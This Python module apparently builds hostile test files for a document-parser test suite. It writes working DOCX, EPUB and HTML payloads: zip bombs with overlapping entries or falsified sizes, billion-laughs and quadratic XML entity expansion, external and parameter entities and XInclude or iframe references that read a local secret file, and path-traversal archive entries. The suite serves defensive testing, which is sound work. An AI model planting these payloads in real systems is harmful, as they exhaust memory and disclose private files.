"""DOCX and EPUB that unpack to too much, hold entities that multiply, or name other files."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path

from attacks.folders import SECRET, FileAttack, Plant

_CONTAINER = (
    '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="OPS/book.opf"/></rootfiles></container>'
)
_BOOK = (
    '<package xmlns="http://www.idpf.org/2007/opf"><metadata/><manifest>'
    '<item id="c" href="c.xhtml" media-type="application/xhtml+xml"/></manifest>'
    '<spine><itemref idref="c"/></spine></package>'
)
_LAUGHS = "".join(
    f'<!ENTITY l{at} "{f"&l{at - 1};" * 10 if at else "ha"}">' for at in range(10)
)  # a thousand million laughs
_QUADRATIC = f'<!ENTITY l9 "{"a" * 50_000}">'
_OUTSIDE = '<!ENTITY l9 SYSTEM "file://{}">'
_PARAMETERS = '<!ENTITY % p SYSTEM "file://{}"> %p; <!ENTITY l9 "%p;">'


def archive_attacks(*, large: bool) -> Iterator[FileAttack]:
    """Every one; `large` ones unpack to 500 MB, others to 100 MB."""
    size = 500_000_000 if large else 100_000_000
    yield from _bombs(size)
    for kind, entities in (
        ("billion laughs", _LAUGHS),
        ("quadratic entities", _QUADRATIC),
        ("external entities", _OUTSIDE),
        ("parameter entities", _PARAMETERS),
    ):
        many = "&l9;" * (20_000 if kind == "quadratic entities" else 1)
        yield FileAttack(kind, "in a DOCX", _docx(entities, many))
        for part in ("OPS/book.opf", "META-INF/container.xml", "OPS/c.xhtml"):
            yield FileAttack(kind, f"in {part} of an EPUB", _epub_with(part, entities, many))
        yield FileAttack(kind, "in a page", _page(entities, many))
    yield FileAttack("paths in archives", "upwards in an EPUB", _upwards)
    yield FileAttack("paths in archives", "XInclude", _including)
    yield FileAttack("deep nesting", "in an EPUB", _deep_epub)
    yield FileAttack("deep nesting", "in a page", _written("deep.html", b"<div>" * 100_000 + b"x"))


def packed(entries: Mapping[str, str | bytes]) -> bytes:
    """A zip archive."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def epub(**changed: str) -> bytes:
    """A book of one chapter; keys are `book`, `container` and `chapter`."""
    parts = {"container": _CONTAINER, "book": _BOOK, "chapter": _chapter("Words."), **changed}
    return packed(
        {
            "mimetype": "application/epub+zip",
            "META-INF/container.xml": parts["container"],
            "OPS/book.opf": parts["book"],
            "OPS/c.xhtml": parts["chapter"],
        }
    )


def _bombs(size: int) -> Iterator[FileAttack]:
    yield FileAttack("zip bombs", "a DOCX of spaces", _bomb("bomb.docx", "word/document.xml", size))
    yield FileAttack("zip bombs", "an EPUB of spaces", _bomb("bomb.epub", "OPS/c.xhtml", size))
    yield FileAttack(
        "zip bombs", "an image of zeros", _bomb("image.docx", "word/media/a.png", size)
    )
    yield FileAttack("zip bombs", "overlapping entries", _overlapping)
    yield FileAttack("zip bombs", "a lie about sizes", _lying)
    many = {f"OPS/{number}": b"" for number in range(25_000)}
    yield FileAttack("zip bombs", "very many entries", lambda folder, _: _put(
        folder, "many.epub", packed({"META-INF/container.xml": _CONTAINER, **many})
    ))  # fmt: skip


def _bomb(file: str, entry: str, size: int) -> Plant:
    """Deflated without ever holding it."""

    def plant(folder: Path, outside: Path) -> None:
        with zipfile.ZipFile(folder / file, "w", zipfile.ZIP_DEFLATED) as archive:
            for name in ("META-INF/container.xml", "word/document.xml"):
                if name != entry:
                    archive.writestr(name, _CONTAINER)
            with archive.open(entry, "w", force_zip64=True) as stream:
                for _ in range(size // 10_000_000):
                    stream.write(b" " * 10_000_000)

    return plant


def _overlapping(folder: Path, outside: Path) -> None:
    """One kernel of data that a thousand entries of the directory share."""
    deflated = zlib.compressobj(9, zlib.DEFLATED, -15)
    data = deflated.compress(b" " * 10_000_000) + deflated.flush()
    crc, directory = zlib.crc32(b" " * 10_000_000), b""
    name = b"word/document.xml"
    fields = 20, 0, 8, 0, 33, crc, len(data), 10_000_000, len(name), 0
    local = b"PK\3\4" + struct.pack("<5H3L2H", *fields) + name + data
    for number in range(1000):
        entry = name if number == 0 else b"word/%d" % number
        fields = 20, 0, 8, 0, 33, crc, len(data), 10_000_000, len(entry), 0
        place = struct.pack("<3H2L", 0, 0, 0, 0, 0)
        directory += b"PK\1\2\x14\0" + struct.pack("<5H3L2H", *fields) + place + entry
    end = struct.pack("<4H2LH", 0, 0, 1000, 1000, len(directory), len(local), 0)
    _put(folder, "overlap.docx", local + directory + b"PK\5\6" + end)


def _lying(folder: Path, outside: Path) -> None:
    data = bytearray(packed({"word/document.xml": b" " * 50_000_000}))
    for signature, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        place = data.index(signature) + at
        data[place : place + 4] = struct.pack("<L", 100)
    _put(folder, "lie.docx", bytes(data))


def _entities(entities: str, outside: Path) -> str:
    return entities.replace("{}", str(outside / SECRET))


def _docx(entities: str, text: str) -> Plant:
    def plant(folder: Path, outside: Path) -> None:
        import docx

        buffer = io.BytesIO()
        document = docx.Document()
        document.add_paragraph("HERE")
        document.save(buffer)
        with zipfile.ZipFile(buffer) as archive:
            parts = {name: archive.read(name) for name in archive.namelist()}
        head, _, body = parts["word/document.xml"].partition(b"?>")
        doctype = f"<!DOCTYPE w [{_entities(entities, outside)}]>".encode()
        parts["word/document.xml"] = head + b"?>" + doctype + body.replace(b"HERE", text.encode())
        _put(folder, "entities.docx", packed(parts))

    return plant


def _epub_with(part: str, entities: str, text: str) -> Plant:
    def plant(folder: Path, outside: Path) -> None:
        doctype = f'<?xml version="1.0"?><!DOCTYPE x [{_entities(entities, outside)}]>'
        title = f"<metadata><title>{text}</title></metadata>"
        files = f"<rootfiles>{text}"
        made = {
            "OPS/book.opf": ("book", _BOOK.replace("<metadata/>", title)),
            "META-INF/container.xml": ("container", _CONTAINER.replace("<rootfiles>", files)),
            "OPS/c.xhtml": ("chapter", _chapter(f"Words. {text}")),
        }
        name, markup = made[part]
        _put(folder, "entities.epub", epub(**{name: doctype + markup}))

    return plant


def _page(entities: str, text: str) -> Plant:
    def plant(folder: Path, outside: Path) -> None:
        page = f"<!DOCTYPE html [{_entities(entities, outside)}]><body><p>Words. {text}</p></body>"
        _put(folder, "entities.html", page.encode())

    return plant


def _upwards(folder: Path, outside: Path) -> None:
    target = f"../../{outside.name}/{SECRET}"
    data = packed(
        {
            "META-INF/container.xml": _CONTAINER.replace("OPS/book.opf", target),
            "OPS/book.opf": _BOOK.replace("c.xhtml", target),
            target: "x",
            f"/{outside}/{SECRET}": "x",
        }
    )
    _put(folder, "upwards.epub", data)
    _put(folder, "chapter.epub", epub(book=_BOOK.replace("c.xhtml", f"file://{outside / SECRET}")))


def _including(folder: Path, outside: Path) -> None:
    include = (
        f'<include xmlns="http://www.w3.org/2001/XInclude" href="file://{outside / SECRET}" '
        f'parse="text"/><object data="file://{outside / SECRET}"/>'
        f'<iframe src="file://{outside / SECRET}"></iframe>'
    )
    _put(folder, "include.epub", epub(chapter=_chapter(f"Words. {include}")))
    _put(folder, "include.html", _chapter(f"Words. {include}").encode())


def _deep_epub(folder: Path, outside: Path) -> None:
    _put(folder, "deep.epub", epub(chapter=_chapter("<div>" * 50_000 + "x" + "</div>" * 50_000)))


def _chapter(text: str) -> str:
    return f'<html xmlns="http://www.w3.org/1999/xhtml"><body><div>{text}</div></body></html>'


def _written(name: str, data: bytes) -> Plant:
    return lambda folder, _: _put(folder, name, data)


def _put(folder: Path, name: str, data: bytes) -> None:
    (folder / name).write_bytes(data)
